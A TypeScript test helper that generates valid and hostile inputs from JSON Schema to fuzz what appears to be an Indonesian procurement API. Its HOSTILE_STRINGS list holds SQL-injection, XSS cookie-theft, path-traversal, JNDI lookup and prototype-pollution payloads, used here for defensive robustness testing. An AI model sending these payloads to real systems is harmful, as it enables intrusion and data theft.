import fc from "fast-check";
import type { JsonSchema } from "./openapi.js";

/**
 * JSON Schema (the subset our Zod schemas produce in the OpenAPI document) → fast-check arbitraries.
 * `validArbitrary` aims at values the schema accepts (refinements the schema cannot express, such as an
 * NPWP checksum or money in sen, may still refuse them); `hostileArbitrary` mixes those with values an
 * attacker would send: huge and odd strings, injection payloads, wrong types, extreme numbers, deep nesting.
 */

/** Payloads tried in every free-text position: SQL injection, XSS, path traversal, format strings, control characters. */
export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "1; SELECT pg_sleep(5)--",
  "\" OR 1=1 --",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(document.cookie)>",
  "javascript:alert(1)",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%s%s%s%n",
  "${jndi:ldap://x.test/a}",
  "{{constructor.constructor('return process')()}}",
  "\u0000",
  "a\u0000b",
  "\u202Egnp.exe",
  "\uFEFF",
  "\uD800",
  "𝕮𝖆𝖕𝖆𝖎 🇮🇩 ١٢٣ 漢字",
  "   ",
  "",
  "__proto__",
  "constructor",
  "NaN",
  "-0",
  "1e309",
  "9".repeat(400),
] as const;

const HOSTILE_NUMBERS = [-1, 0, -0, 1.5, -2147483649, 2147483648, Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER - 2, 1e308, -1e308, 5e-324] as const;

/** Values of the wrong JSON type for any position. */
const wrongType = fc.constantFrom<unknown>(null, true, false, 0, -1, "", "x", [], {}, [null], { $gt: "" }, JSON.parse('{"__proto__":{"polluted":true}}') as unknown);

/** {"a":{"a":…}} nested `depth` deep: parsers and validators must not fall over. */
export function deeplyNested(depth: number): unknown {
  let value: unknown = "dasar";
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? { a: value } : [value];
  return value;
}

const hugeString = fc.integer({ min: 10_000, max: 200_000 }).chain((n) => fc.constantFrom("A", "ا", "😀", "'", "<").map((c) => c.repeat(n)));

const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  hugeString,
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
);

function types(schema: JsonSchema): string[] {
  if (Array.isArray(schema.type)) return schema.type;
  if (schema.type) return [schema.type];
  if (schema.properties) return ["object"];
  return [];
}

const FORMAT_ARBITRARIES: Record<string, fc.Arbitrary<string>> = {
  uuid: fc.uuid({ version: 4 }),
  email: fc.tuple(fc.stringMatching(/^[a-z][a-z0-9]{2,10}$/), fc.constantFrom("uji.test", "contoh.go.id")).map(([name, domain]) => `${name}@${domain}`),
  "date-time": fc.date({ min: new Date("2020-01-01T00:00:00Z"), max: new Date("2030-12-31T00:00:00Z"), noInvalidDate: true }).map((d) => d.toISOString()),
  date: fc.date({ min: new Date("2020-01-01T00:00:00Z"), max: new Date("2030-12-31T00:00:00Z"), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
  uri: fc.constantFrom("https://lpse.contoh.go.id/", "https://example.test/a"),
};

/** A calendar date as a pattern such as ^\d{4}-(0[1-9]|1[0-2])-…$ describes it: generate real dates, not 2026-02-31. */
const DATE_PATTERN = /^\^\\d\{4\}-.*\$$/;

/**
 * Fields whose rules JSON Schema cannot carry (money in exact decimal strings, NPWP with its check, the
 * password policy): a valid value by the field's name, so generated bodies get past validation to the
 * rules and policies behind it.
 */
export const FIELD_HINTS: Record<string, fc.Arbitrary<unknown>> = {
  pagu: fc.integer({ min: 1_000_000, max: 2_000_000_000 }).map(String),
  value: fc.integer({ min: 1_000_000, max: 2_000_000_000 }).map(String),
  amount: fc.integer({ min: 1_000_000, max: 200_000_000 }).map(String),
  price: fc.integer({ min: 1_000, max: 2_000_000_000 }).map(String),
  unitPrice: fc.integer({ min: 1_000, max: 50_000_000 }).map(String),
  quantity: fc.integer({ min: 1, max: 500 }).map(String),
  score: fc.integer({ min: 0, max: 100 }).map(String),
  sharePercent: fc.integer({ min: 1, max: 100 }).map(String),
  npwp: fc.constant("01.234.567.8-901.000"),
  nib: fc.constant("9120123456789"),
  password: fc.constant("Rahasia#Kuat2026!"),
  kbliCodes: fc.constant(["41011"]),
};

function stringArbitrary(schema: JsonSchema): fc.Arbitrary<string> {
  const format = schema.format && FORMAT_ARBITRARIES[schema.format];
  if (format) return format;
  if (schema.pattern && DATE_PATTERN.test(schema.pattern)) return FORMAT_ARBITRARIES.date as fc.Arbitrary<string>;
  if (schema.pattern) {
    try {
      const min = schema.minLength ?? 0;
      const max = schema.maxLength ?? Infinity;
      // Repeating or cutting keeps a character-class pattern (a token, a code) valid; a filter could spin forever.
      return fc.stringMatching(new RegExp(schema.pattern)).map((s) => (s.length === 0 ? s : s.repeat(Math.ceil(min / s.length) || 1).slice(0, Math.max(min, Math.min(max, s.length)))));
    } catch {
      // A pattern fast-check cannot generate from (lookarounds): fall through to plain text.
    }
  }
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 60, minLength + 60));
  return fc.string({ minLength, maxLength }).map((s) => s.trim().padEnd(minLength, "a"));
}

function numberArbitrary(schema: JsonSchema, integer: boolean): fc.Arbitrary<number> {
  const min = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : -1_000_000);
  const max = schema.maximum ?? (schema.exclusiveMaximum !== undefined ? schema.exclusiveMaximum - 1 : 1_000_000);
  return integer ? fc.integer({ min: Math.ceil(min), max: Math.floor(max) }) : fc.double({ min, max, noNaN: true, noDefaultInfinity: true });
}

/** Values the schema accepts, as far as JSON Schema can say. */
export function validArbitrary(schema: JsonSchema | undefined): fc.Arbitrary<unknown> {
  if (!schema) return fc.constant(undefined);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map(validArbitrary));
  const [type] = types(schema);
  switch (type) {
    case "string":
      return stringArbitrary(schema);
    case "integer":
      return numberArbitrary(schema, true);
    case "number":
      return numberArbitrary(schema, false);
    case "boolean":
      return fc.boolean();
    case "null":
      return fc.constant(null);
    case "array":
      return fc.array(validArbitrary(schema.items ?? {}), { minLength: schema.minItems ?? 0, maxLength: Math.min(schema.maxItems ?? 3, (schema.minItems ?? 0) + 3) });
    case "object":
      return objectArbitrary(schema, validArbitrary, false);
    default:
      return fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.boolean());
  }
}

function objectArbitrary(schema: JsonSchema, property: (s: JsonSchema) => fc.Arbitrary<unknown>, hostile: boolean): fc.Arbitrary<unknown> {
  const properties = schema.properties ?? {};
  const required = new Set(schema.required ?? []);
  const record: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [name, sub] of Object.entries(properties)) {
    const hinted = FIELD_HINTS[name];
    // A hint stands for a string (or a list of codes); a field of the same name with another type keeps its schema.
    const hint = hinted && (types(sub).includes("string") || (name === "kbliCodes" && types(sub).includes("array"))) ? hinted : undefined;
    record[name] = hint && !hostile ? hint : hint ? fc.oneof(hint, property(sub)) : property(sub);
  }
  const requiredKeys = Object.keys(properties).filter((k) => required.has(k));
  // Hostile objects may also drop required fields and carry unknown ones.
  const base = fc.record(record, hostile ? { requiredKeys: [] } : { requiredKeys });
  if (!hostile) return base;
  return fc.tuple(base, fc.option(fc.dictionary(fc.constantFrom("tidakDikenal", "__proto__", "constructor", "isAdmin", "role"), wrongType, { maxKeys: 2 }), { freq: 3 })).map(([value, extra]) =>
    extra ? { ...(value as object), ...extra } : value,
  );
}

/** Mostly valid values with hostile ones mixed in at every level. */
export function hostileArbitrary(schema: JsonSchema | undefined): fc.Arbitrary<unknown> {
  if (!schema) return fc.oneof(wrongType, fc.constant(deeplyNested(200)));
  const [type] = types(schema);
  const attacks: fc.Arbitrary<unknown>[] = [wrongType];
  if (type === "string" || schema.enum) attacks.push(hostileString);
  if (type === "integer" || type === "number") attacks.push(fc.constantFrom(...HOSTILE_NUMBERS), fc.constantFrom("1", "0x10", "1e3"));
  if (type === "array") attacks.push(fc.array(hostileArbitrary(schema.items ?? {}), { maxLength: 3 }), fc.constant(Array.from({ length: 5_000 }, () => "x")));
  if (type === "object") attacks.push(objectArbitrary(schema, hostileArbitrary, true), fc.constant(deeplyNested(500)));
  return fc.oneof({ arbitrary: validArbitrary(schema), weight: 2 }, { arbitrary: fc.oneof(...attacks), weight: 1 });
}

/** A query string from the operation's query parameters, each valid, hostile or left out. */
export function queryArbitrary(params: readonly { name: string; schema: JsonSchema }[], hostile: boolean): fc.Arbitrary<string> {
  if (params.length === 0) return fc.constant("");
  const record: Record<string, fc.Arbitrary<unknown>> = {};
  for (const p of params) record[p.name] = hostile ? fc.oneof(validArbitrary(p.schema), hostileString, fc.constantFrom(...HOSTILE_NUMBERS)) : validArbitrary(p.schema);
  return fc.record(record, { requiredKeys: [] }).map((values) => {
    const search = new URLSearchParams();
    for (const [name, value] of Object.entries(values)) if (value !== undefined) search.append(name, typeof value === "string" ? value : JSON.stringify(value));
    const text = search.toString();
    return text ? `?${text}` : "";
  });
}

/** A path parameter: a valid-looking value or a hostile one (traversal, injection, unicode, huge). */
export function pathParamArbitrary(schema: JsonSchema, hostile: boolean): fc.Arbitrary<string> {
  const valid = validArbitrary(schema).map(String);
  return hostile ? fc.oneof(valid, hostileString.filter((s) => s.length > 0 && s.length < 20_000)) : valid;
}
